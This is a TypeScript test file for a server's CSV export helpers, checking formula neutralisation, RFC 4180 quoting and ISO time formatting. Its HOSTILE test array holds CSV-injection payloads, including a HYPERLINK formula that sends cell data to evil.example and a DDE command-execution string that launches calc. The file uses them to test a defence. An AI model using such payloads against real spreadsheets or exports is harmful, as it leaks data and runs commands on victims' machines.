import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { csvField, csvRecord, neutraliseFormula } from '../../server/shared/csv-format.ts';
import { isoUtc } from '../../server/shared/iso-time.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\tleading tab',
  '\rleading carriage return',
  '\0leading nul',
  'quotes "inside", and a comma',
  'line one\nline two\r\nline three',
  'emoji 🚀🔥 and flags 🇺🇦',
  'right-to-left: إسرائيل وإيران \u202Eevil\u202C',
  'plain text',
  '',
  ' =not at the start',
];

test('neutraliseFormula() prefixes an apostrophe to every formula trigger of OWASP ASVS V1.2.10', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r', '\0']) {
    assert.equal(neutraliseFormula(`${start}1+1`), `'${start}1+1`, JSON.stringify(start));
  }
  assert.equal(neutraliseFormula('Russia: -2 points'), 'Russia: -2 points');
  assert.equal(neutraliseFormula(''), '');
});

test('csvField() writes numbers as numbers, never prefixed, and null as an empty field', () => {
  assert.equal(csvField(-2), '-2');
  assert.equal(csvField(3.5), '3.5');
  assert.equal(csvField(0), '0');
  assert.equal(csvField(null), '');
  assert.equal(csvField(Number.NaN), '');
  assert.equal(csvField('-2'), "'-2", 'the same characters as text are neutralised');
});

test('csvField() quotes only when RFC 4180 requires it and doubles inner quotes', () => {
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "no"'), '"say ""no"""');
  assert.equal(csvField('a\nb'), '"a\nb"');
  assert.equal(csvField('a\rb'), '"a\rb"');
  assert.equal(csvField('=1,2'), `"'=1,2"`);
});

test('csvRecord() ends with CRLF and parses back with csv-parse to the neutralised values', () => {
  const rows = HOSTILE.map((text, i) => [i, text, -i - 0.5, null]);
  const csv = rows.map(csvRecord).join('');
  assert.ok(csv.endsWith('\r\n'));
  const parsed = parse(csv, { record_delimiter: '\r\n', relax_column_count: false }) as string[][];
  assert.equal(parsed.length, rows.length);
  parsed.forEach((cells, i) => {
    assert.deepEqual(cells, [String(i), neutraliseFormula(HOSTILE[i]!), String(-i - 0.5), '']);
  });
});

test('csvRecord() writes byte for byte what csv-stringify writes for the same neutralised cells', () => {
  const rows = HOSTILE.map((text, i) => [i, neutraliseFormula(text), 42.5, 'x']);
  const ours = rows.map(csvRecord).join('');
  const theirs = stringify(rows, { record_delimiter: '\r\n', quoted_match: /\r/ });
  assert.equal(ours, theirs);
});

test('isoUtc() formats exactly as Date#toISOString', () => {
  const samples = [0, 1, 999, 86_399_999, 86_400_000, Date.UTC(2026, 10, 26, 23, 59, 59, 999), Date.UTC(2024, 1, 29, 12), 253_402_300_799_999, 1.5];
  for (let i = 0; i < 2000; i++) samples.push(Math.floor(Math.random() * 4_102_444_800_000));
  for (const ms of samples) assert.equal(isoUtc(ms), new Date(ms).toISOString(), String(ms));
});
